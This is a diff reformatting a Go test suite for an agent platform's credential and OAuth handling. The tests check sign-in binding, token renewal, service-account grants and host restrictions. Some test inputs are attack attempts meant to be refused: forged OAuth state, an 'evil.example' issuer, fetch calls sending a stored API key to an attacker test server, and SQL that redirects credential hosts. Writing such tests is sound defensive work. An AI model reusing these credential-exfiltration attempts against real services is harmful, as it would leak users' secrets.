@@ -24,13 +24,27 @@ func (w *contractClient) checkCredentials(t *testing.T, at string) {
 	p := newOAuthProvider(t)
 	w.request(t, 200, "GET", "/api/credential-presets", "")
 	one := at + "/credentials/" + w.create(t, at+"/credentials", p.Login("google"))
-	preset := w.create(t, at+"/credentials", `{"name":"preset","preset":"google-sheets","config":{"client_id":"mine"},"secret":{"client_secret":"s"}}`)
-	if got := w.request(t, 200, "GET", at+"/credentials/"+preset, ""); !strings.Contains(got.text, `"client_id":"mine"`) || !strings.Contains(got.text, `"access_type":"offline"`) {
+	preset := w.create(
+		t,
+		at+"/credentials",
+		`{"name":"preset","preset":"google-sheets","config":{"client_id":"mine"},"secret":{"client_secret":"s"}}`,
+	)
+	if got := w.request(
+		t,
+		200,
+		"GET",
+		at+"/credentials/"+preset,
+		"",
+	); !strings.Contains(got.text, `"client_id":"mine"`) ||
+		!strings.Contains(got.text, `"access_type":"offline"`) {
 		t.Errorf("a preset with a config: %s", got.text)
 	}
 	w.request(t, 204, "DELETE", at+"/credentials/"+preset, "")
 	w.request(t, 409, "POST", at+"/credentials", p.Login("Google"))
-	w.request(t, 400, "POST", at+"/credentials", `{"name":"x","type":"header","hosts":["*.com"],"secret":{"X-Key":"k"}}`)
+	w.request(
+		t, 400, "POST", at+"/credentials",
+		`{"name":"x","type":"header","hosts":["*.com"],"secret":{"X-Key":"k"}}`,
+	)
 	w.request(t, 200, "GET", at+"/credentials", "")
 	w.request(t, 200, "GET", one, "")
 	w.request(t, 200, "PUT", one, `{"name":"sheets"}`)
@@ -41,7 +55,8 @@ func (w *contractClient) checkCredentials(t *testing.T, at string) {
 	w.request(t, 200, "POST", one+"/confirm", "")
 	w.connect(t, p, one)
 	w.request(t, 204, "DELETE", one+"/connection", "")
-	device := at + "/credentials/" + w.create(t, at+"/credentials", strings.Replace(p.Login("device"), "authorization_code", "device_code", 1))
+	device := at + "/credentials/" +
+		w.create(t, at+"/credentials", strings.Replace(p.Login("device"), "authorization_code", "device_code", 1))
 	w.request(t, 200, "POST", device+"/connect", "")
 	w.request(t, 200, "POST", device+"/connect/complete", `{}`)
 	w.request(t, 204, "DELETE", one, "")
@@ -82,9 +97,22 @@ func (c *testClient) connect(t *testing.T, p *apitest.OAuthProvider, at string) 
 // call calls an address from a node with a credential.
 func (c *testClient) call(t *testing.T, data string) map[string]any {
 	t.Helper()
-	w := c.must(t, 201, "POST", "/api/agents/default/workflows", `{"name":"w","nodes":[{"id":"t","type":"trigger","data":{"event":"manual"}},{"id":"h","type":"http-request","data":`+data+`}],"edges":[{"id":"e","source":"t","target":"h"}]}`)
+	w := c.must(
+		t,
+		201,
+		"POST",
+		"/api/agents/default/workflows",
+		`{"name":"w","nodes":[{"id":"t","type":"trigger","data":{"event":"manual"}},{"id":"h",`+
+			`"type":"http-request","data":`+data+`}],"edges":[{"id":"e","source":"t","target":"h"}]}`,
+	)
 	defer c.must(t, 200, "DELETE", fmt.Sprint("/api/agents/default/workflows/", w["id"]), "")
-	return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/workflows/", w["id"], "/test-node"), `{"node_id":"h","input":{}}`)
+	return c.must(
+		t,
+		200,
+		"POST",
+		fmt.Sprint("/api/agents/default/workflows/", w["id"], "/test-node"),
+		`{"node_id":"h","input":{}}`,
+	)
 }
 
 func TestSignInWithAProvider(t *testing.T) {
@@ -94,12 +122,18 @@ func TestSignInWithAProvider(t *testing.T) {
 	if made["status"] != "needs_login" || fmt.Sprint(made["configured_fields"]) != "[client_secret]" {
 		t.Errorf("it is created as %v", made)
 	}
-	if out := c.call(t, `{"url":"`+p.URL+`/api/me","credential":"google","retry":{"max_attempts":3,"delay_ms":1}}`); at2(out, "error.code") != "CREDENTIAL_LOGIN" {
+	if out := c.call(
+		t,
+		`{"url":"`+p.URL+`/api/me","credential":"google","retry":{"max_attempts":3,"delay_ms":1}}`,
+	); at2(out, "error.code") != "CREDENTIAL_LOGIN" {
 		t.Errorf("a call before the login: %v", out)
 	}
 	location, cookie := c.start(t, at)
 	asked, _ := url.Parse(location)
-	if q := asked.Query(); q.Get("code_challenge_method") != "S256" || q.Get("redirect_uri") != "http://localhost/oauth/callback" || q.Get("scope") != "read write" || len(q.Get("state")) < 26 {
+	if q := asked.Query(); q.Get("code_challenge_method") != "S256" ||
+		q.Get("redirect_uri") != "http://localhost/oauth/callback" ||
+		q.Get("scope") != "read write" ||
+		len(q.Get("state")) < 26 {
 		t.Errorf("the sign-in is redirected to %s", location)
 	}
 	query := p.Authorize(t, location)
@@ -113,7 +147,8 @@ func TestSignInWithAProvider(t *testing.T) {
 	if at2(out, "output.body.user.email") != "ada@example.com" || at2(out, "output.body.echo") != "Bearer ********" {
 		t.Errorf("a call: %v", out)
 	}
-	if tested := c.must(t, 200, "POST", at+"/test", ""); tested["success"] != true || tested["account"] != "ada@example.com" {
+	if tested := c.must(t, 200, "POST", at+"/test", ""); tested["success"] != true ||
+		tested["account"] != "ada@example.com" {
 		t.Errorf("the test: %v", tested)
 	}
 	now := c.must(t, 200, "GET", at, "")
@@ -124,7 +159,10 @@ func TestSignInWithAProvider(t *testing.T) {
 		c.mustNotContain(t, secret)
 	}
 	c.must(t, 204, "DELETE", at+"/connection", "")
-	if now := c.must(t, 200, "GET", at, ""); now["status"] != "needs_login" || now["account"] != "" || len(p.Revoked) != 1 || !strings.HasPrefix(p.Revoked[0], "refresh-token") {
+	if now := c.must(t, 200, "GET", at, ""); now["status"] != "needs_login" ||
+		now["account"] != "" ||
+		len(p.Revoked) != 1 ||
+		!strings.HasPrefix(p.Revoked[0], "refresh-token") {
 		t.Errorf("disconnected: %v, revoked %v", now, p.Revoked)
 	}
 }
@@ -135,8 +173,12 @@ func TestSignInIsBoundToItsBrowser(t *testing.T) {
 	c, p := newTestClient(t), newOAuthProvider(t)
 	at := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, p.Login("google"))["id"])
 	other := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, p.Login("other"))["id"])
-	issued := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt,
-		`{"name":"issued","type":"oauth2","hosts":["`+p.URL+`"],"secret":{"client_secret":"client-secret-4711"},"config":{"grant":"authorization_code","issuer":"`+p.URL+`","client_id":"client"}}`)["id"])
+	issued := credentialsAt + "/" + fmt.Sprint(c.must(
+		t, 201, "POST", credentialsAt,
+		`{"name":"issued","type":"oauth2","hosts":["`+p.URL+
+			`"],"secret":{"client_secret":"client-secret-4711"},"config":{"grant":"authorization_code","issuer":"`+
+			p.URL+`","client_id":"client"}}`,
+	)["id"])
 	for name, tc := range map[string]struct {
 		at   string
 		turn func(query url.Values, cookie *http.Cookie) (url.Values, *http.Cookie)
@@ -151,7 +193,10 @@ func TestSignInIsBoundToItsBrowser(t *testing.T) {
 			k2.Name = k.Name
 			return q, k2
 		}},
-		"no state": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) { q.Del("state"); return q, k }},
+		"no state": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
+			q.Del("state")
+			return q, k
+		}},
 		"forged state": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
 			q.Set("state", q.Get("state")+"x")
 			return q, k
@@ -162,8 +207,14 @@ func TestSignInIsBoundToItsBrowser(t *testing.T) {
 			q.Set("state", strings.Join(parts, "."))
 			return q, k
 		}},
-		"a later login": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) { c.start(t, at); return q, k }},
-		"no code":       {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) { q.Del("code"); return q, k }},
+		"a later login": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
+			c.start(t, at)
+			return q, k
+		}},
+		"no code": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
+			q.Del("code")
+			return q, k
+		}},
 		"code of another login": {at, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
 			location, _ := c.start(t, other)
 			q.Set("code", p.Authorize(t, location).Get("code"))
@@ -178,12 +229,17 @@ func TestSignInIsBoundToItsBrowser(t *testing.T) {
 			q.Set("iss", "https://evil.example")
 			return q, k
 		}},
-		"no issuer": {issued, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) { q.Del("iss"); return q, k }},
+		"no issuer": {issued, func(q url.Values, k *http.Cookie) (url.Values, *http.Cookie) {
+			q.Del("iss")
+			return q, k
+		}},
 	} {
 		location, cookie := c.start(t, tc.at)
 		query, cookie := tc.turn(p.Authorize(t, location), cookie)
 		a := c.back(t, query, cookie)
-		if a.StatusCode < 400 || strings.Contains(a.text, "client-secret") || strings.Contains(a.Header.Get("Content-Security-Policy"), "script-src") {
+		if a.StatusCode < 400 ||
+			strings.Contains(a.text, "client-secret") ||
+			strings.Contains(a.Header.Get("Content-Security-Policy"), "script-src") {
 			t.Errorf("%s: %d %s", name, a.StatusCode, a.text)
 		}
 		if now := c.must(t, 200, "GET", tc.at, ""); now["status"] != "needs_login" {
@@ -216,11 +272,24 @@ func TestTokensAreRenewedOnce(t *testing.T) {
 	at := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, p.Login("google"))["id"])
 	c.connect(t, p, at)
 	p.Set(func() { p.Expires = 3600 })
-	tool := c.must(t, 201, "POST", "/api/agents/default/tools", `{"name":"me","type":"api","config":{"url":"`+p.URL+`/api/me","credential":"google","response_path":"user.email"}}`)
+	tool := c.must(
+		t,
+		201,
+		"POST",
+		"/api/agents/default/tools",
+		`{"name":"me","type":"api","config":{"url":"`+p.URL+
+			`/api/me","credential":"google","response_path":"user.email"}}`,
+	)
 	var all sync.WaitGroup
 	for range 20 {
 		all.Go(func() {
-			if a := c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"), `{}`); a["result"] != "ada@example.com" {
+			if a := c.must(
+				t,
+				200,
+				"POST",
+				fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"),
+				`{}`,
+			); a["result"] != "ada@example.com" {
 				t.Errorf("a call: %v", a)
 			}
 		})
@@ -230,7 +299,10 @@ func TestTokensAreRenewedOnce(t *testing.T) {
 		t.Errorf("the token was renewed %d times", n)
 	}
 	// The provider revokes the connection: a user has to sign in again.
-	p.Set(func() { p.Expires, p.Fail = 3600, "invalid_grant"; clear(p.Access) })
+	p.Set(func() {
+		p.Expires, p.Fail = 3600, "invalid_grant"
+		clear(p.Access)
+	})
 	run := func() map[string]any {
 		return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"), `{}`)
 	}
@@ -244,7 +316,9 @@ func TestTokensAreRenewedOnce(t *testing.T) {
 		}
 	}
 	now := c.must(t, 200, "GET", at, "")
-	if now["status"] != "needs_login" || !strings.Contains(fmt.Sprint(now["last_error"]), "invalid_grant") || strings.Contains(fmt.Sprint(now["last_error"]), "refresh-token") {
+	if now["status"] != "needs_login" ||
+		!strings.Contains(fmt.Sprint(now["last_error"]), "invalid_grant") ||
+		strings.Contains(fmt.Sprint(now["last_error"]), "refresh-token") {
 		t.Errorf("it is %v", now)
 	}
 	if n := p.Count("refresh_token"); n != 2 {
@@ -276,31 +350,56 @@ func TestGrantsWithoutAPerson(t *testing.T) {
 		t.Fatal(err)
 	}
 	der, _ := x509.MarshalPKCS8PrivateKey(key)
-	account, _ := json.Marshal(map[string]string{"client_email": "robot@example.com", "private_key": string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))})
+	account, _ := json.Marshal(map[string]string{
+		"client_email": "robot@example.com",
+		"private_key":  string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
+	})
 	quoted, _ := json.Marshal(string(account))
 	// {URL}: the key has any three letters in a row.
 	for name, fields := range map[string]string{
-		"client_credentials": `"secret":{"client_secret":"client-secret-4711"},"config":{"grant":"client_credentials","client_id":"client","token_url":"{URL}/token"}`,
-		"jwt_bearer":         `"secret":{"service_account":` + string(quoted) + `},"config":{"grant":"jwt_bearer","scope":"read","token_url":"{URL}/token"}`,
+		"client_credentials": `"secret":{"client_secret":"client-secret-4711"},` +
+			`"config":{"grant":"client_credentials","client_id":"client","token_url":"{URL}/token"}`,
+		"jwt_bearer": `"secret":{"service_account":` + string(quoted) +
+			`},"config":{"grant":"jwt_bearer","scope":"read","token_url":"{URL}/token"}`,
 	} {
-		made := c.must(t, 201, "POST", credentialsAt, strings.ReplaceAll(`{"name":"`+name+`","type":"oauth2","hosts":["{URL}"],`+fields+`}`, "{URL}", p.URL))
+		made := c.must(
+			t, 201, "POST", credentialsAt,
+			strings.ReplaceAll(`{"name":"`+name+`","type":"oauth2","hosts":["{URL}"],`+fields+`}`, "{URL}", p.URL),
+		)
 		if made["status"] != "ready" {
 			t.Errorf("%s: it is %v", name, made["status"])
 		}
-		if out := c.call(t, `{"url":"`+p.URL+`/api/me","credential":"`+name+`"}`); at2(out, "output.body.user.email") != "ada@example.com" {
+		if out := c.call(
+			t,
+			`{"url":"`+p.URL+`/api/me","credential":"`+name+`"}`,
+		); at2(out, "output.body.user.email") != "ada@example.com" {
 			t.Errorf("%s: %v", name, out)
 		}
 	}
-	device := credentialsAt + "/" + fmt.Sprint(c.must(t, 201, "POST", credentialsAt, strings.Replace(p.Login("device"), "authorization_code", "device_code", 1))["id"])
-	if a := c.must(t, 200, "POST", device+"/connect", ""); a["user_code"] != "WDJB-MJHT" || a["verification_url"] != "https://example.com/device" {
+	device := credentialsAt + "/" +
+		fmt.Sprint(c.must(
+			t, 201, "POST", credentialsAt,
+			strings.Replace(p.Login("device"), "authorization_code", "device_code", 1),
+		)["id"])
+	if a := c.must(t, 200, "POST", device+"/connect", ""); a["user_code"] != "WDJB-MJHT" ||
+		a["verification_url"] != "https://example.com/device" {
 		t.Errorf("connect: %v", a)
 	}
 	if a := c.must(t, 200, "POST", device+"/connect/complete", `{}`); a["connected"] != false {
 		t.Errorf("not confirmed yet: %v", a)
 	}
 	p.Set(func() { p.HTML = true })
-	bad := c.must(t, 201, "POST", credentialsAt, strings.ReplaceAll(`{"name":"html","type":"oauth2","hosts":["{URL}"],"secret":{"client_secret":"client-secret-4711"},"config":{"grant":"client_credentials","client_id":"client","token_url":"{URL}/token"}}`, "{URL}", p.URL))
-	if a := c.must(t, 200, "POST", fmt.Sprint(credentialsAt, "/", bad["id"], "/test"), ""); a["success"] != false || !strings.Contains(fmt.Sprint(a["error"]), "403") {
+	bad := c.must(
+		t, 201, "POST", credentialsAt,
+		strings.ReplaceAll(
+			`{"name":"html","type":"oauth2","hosts":["{URL}"],"secret":{"client_secret":"client-secret-4711"},`+
+				`"config":{"grant":"client_credentials","client_id":"client","token_url":"{URL}/token"}}`,
+			"{URL}",
+			p.URL,
+		),
+	)
+	if a := c.must(t, 200, "POST", fmt.Sprint(credentialsAt, "/", bad["id"], "/test"), ""); a["success"] != false ||
+		!strings.Contains(fmt.Sprint(a["error"]), "403") {
 		t.Errorf("a provider that answers HTML: %v", a)
 	}
 }
@@ -330,7 +429,10 @@ func TestCredentialStaysWithItsHosts(t *testing.T) {
 		apitest.WriteJSON(w, 200, map[string]any{"ok": r.Header.Get("X-Api-Key") == secret})
 	}))
 	t.Cleanup(home.Close)
-	made := c.must(t, 201, "POST", credentialsAt, `{"name":"crm","type":"header","hosts":["`+home.URL+`"],"secret":{"X-Api-Key":"`+secret+`"}}`)
+	made := c.must(
+		t, 201, "POST", credentialsAt,
+		`{"name":"crm","type":"header","hosts":["`+home.URL+`"],"secret":{"X-Api-Key":"`+secret+`"}}`,
+	)
 	at := credentialsAt + "/" + fmt.Sprint(made["id"])
 
 	if out := c.call(t, `{"url":"`+home.URL+`","credential":"crm"}`); at2(out, "output.body.ok") != true {
@@ -354,17 +456,31 @@ func TestCredentialStaysWithItsHosts(t *testing.T) {
 			t.Errorf("%s: %v", data, out)
 		}
 	}
-	if out := c.call(t, `{"url":"`+home.URL+`?to=`+url.QueryEscape(evil.URL)+`","credential":"crm"}`); at2(out, "output.body.ok") != true {
+	if out := c.call(
+		t,
+		`{"url":"`+home.URL+`?to=`+url.QueryEscape(evil.URL)+`","credential":"crm"}`,
+	); at2(out, "output.body.ok") != true {
 		t.Errorf("a redirect is followed without it: %v", out)
 	}
-	for _, data := range []string{`{"url":"` + home.URL + `","credential":"{{input.name}}"}`, `{"url":"` + home.URL + `","credential":"crm","auth":{"type":"bearer","token":"x"}}`, `{"url":"` + home.URL + `","credential":{"name":"crm"}}`} {
-		body := `{"name":"w","nodes":[{"id":"t","type":"trigger","data":{"event":"manual"}},{"id":"h","type":"http-request","data":` + data + `}],"edges":[]}`
+	for _, data := range []string{
+		`{"url":"` + home.URL + `","credential":"{{input.name}}"}`,
+		`{"url":"` + home.URL + `","credential":"crm","auth":{"type":"bearer","token":"x"}}`,
+		`{"url":"` + home.URL + `","credential":{"name":"crm"}}`,
+	} {
+		body := `{"name":"w","nodes":[{"id":"t","type":"trigger","data":{"event":"manual"}},{"id":"h",` +
+			`"type":"http-request","data":` + data + `}],"edges":[]}`
 		if a := c.send(t, "POST", "/api/agents/default/workflows", body); a.StatusCode != 400 {
 			t.Errorf("%s: %d %s", data, a.StatusCode, a.text)
 		}
 	}
 	// Tools, sources and MCP servers, and addresses changed by SQL.
-	tool := c.must(t, 201, "POST", "/api/agents/default/tools", `{"name":"crm","type":"api","config":{"url":"`+home.URL+`","credential":"crm"}}`)
+	tool := c.must(
+		t,
+		201,
+		"POST",
+		"/api/agents/default/tools",
+		`{"name":"crm","type":"api","config":{"url":"`+home.URL+`","credential":"crm"}}`,
+	)
 	run := func() map[string]any {
 		return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", tool["id"], "/execute"), `{}`)
 	}
@@ -376,18 +492,32 @@ func TestCredentialStaysWithItsHosts(t *testing.T) {
 		t.Errorf("the tool elsewhere: %v", a)
 	}
 	code := func(text string) map[string]any {
-		w := c.must(t, 201, "POST", "/api/agents/default/tools", `{"name":"code","type":"function","config":{"code":`+quote(text)+`}}`)
+		w := c.must(
+			t,
+			201,
+			"POST",
+			"/api/agents/default/tools",
+			`{"name":"code","type":"function","config":{"code":`+quote(text)+`}}`,
+		)
 		defer c.must(t, 204, "DELETE", fmt.Sprint("/api/agents/default/tools/", w["id"]), "")
 		return c.must(t, 200, "POST", fmt.Sprint("/api/agents/default/tools/", w["id"], "/execute"), `{}`)
 	}
 	if a := code(`return (await fetch("` + home.URL + `", {credential: "crm"})).json()`); at2(a, "result.ok") != true {
 		t.Errorf("code: %v", a)
 	}
-	if a := code(`return (await fetch("` + evil.URL + `", {credential: "crm"})).json()`); a["success"] != false || !strings.Contains(fmt.Sprint(a), "not for this host") {
+	if a := code(`return (await fetch("` + evil.URL + `", {credential: "crm"})).json()`); a["success"] != false ||
+		!strings.Contains(fmt.Sprint(a), "not for this host") {
 		t.Errorf("code elsewhere: %v", a)
 	}
-	source := c.must(t, 201, "POST", "/api/agents/default/sources", `{"name":"s","type":"api","config":{"url":"`+evil.URL+`","credential":"crm"}}`)
-	if done := c.waitIndexed(t, fmt.Sprint("/api/agents/default/sources/", source["id"])); done["status"] != "error" || at2(done, "error.code") != "CREDENTIAL_HOST" {
+	source := c.must(
+		t,
+		201,
+		"POST",
+		"/api/agents/default/sources",
+		`{"name":"s","type":"api","config":{"url":"`+evil.URL+`","credential":"crm"}}`,
+	)
+	if done := c.waitIndexed(t, fmt.Sprint("/api/agents/default/sources/", source["id"])); done["status"] != "error" ||
+		at2(done, "error.code") != "CREDENTIAL_HOST" {
 		t.Errorf("the source: %v", done)
 	}
 	server := c.must(t, 201, "POST", "/api/agents/default/mcp", `{"name":"m","url":"`+evil.URL+`","credential":"crm"}`)
@@ -395,12 +525,21 @@ func TestCredentialStaysWithItsHosts(t *testing.T) {
 		t.Errorf("the MCP server: %v", server)
 	}
 	// Changes to the credential itself.
-	for _, change := range []string{`{"hosts":["` + evil.URL + `"]}`, `{"type":"query"}`, `{"config":{"token_url":"` + evil.URL + `"}}`, `{"config":{"test":{"url":"` + evil.URL + `"}}}`} {
+	for _, change := range []string{
+		`{"hosts":["` + evil.URL + `"]}`,
+		`{"type":"query"}`,
+		`{"config":{"token_url":"` + evil.URL + `"}}`,
+		`{"config":{"test":{"url":"` + evil.URL + `"}}}`,
+	} {
 		if a := c.send(t, "PUT", at, change); a.StatusCode != 400 {
 			t.Errorf("%s: %d %s", change, a.StatusCode, a.text)
 		}
 	}
-	for statement, status := range map[string]int{`UPDATE _credentials SET hosts = '["evil.example"]'`: 403, `SELECT * FROM _credentials`: 403, `UPDATE mcp_servers SET credential = 'crm', url = '` + evil.URL + `'`: 0} {
+	for statement, status := range map[string]int{
+		`UPDATE _credentials SET hosts = '["evil.example"]'`:                  403,
+		`SELECT * FROM _credentials`:                                          403,
+		`UPDATE mcp_servers SET credential = 'crm', url = '` + evil.URL + `'`: 0,
+	} {
 		a := c.send(t, "POST", "/api/agents/default/sql/execute", `{"query":`+quote(statement)+`}`)
 		if status != 0 && a.StatusCode != status {
 			t.Errorf("%s: %d %s", statement, a.StatusCode, a.text)
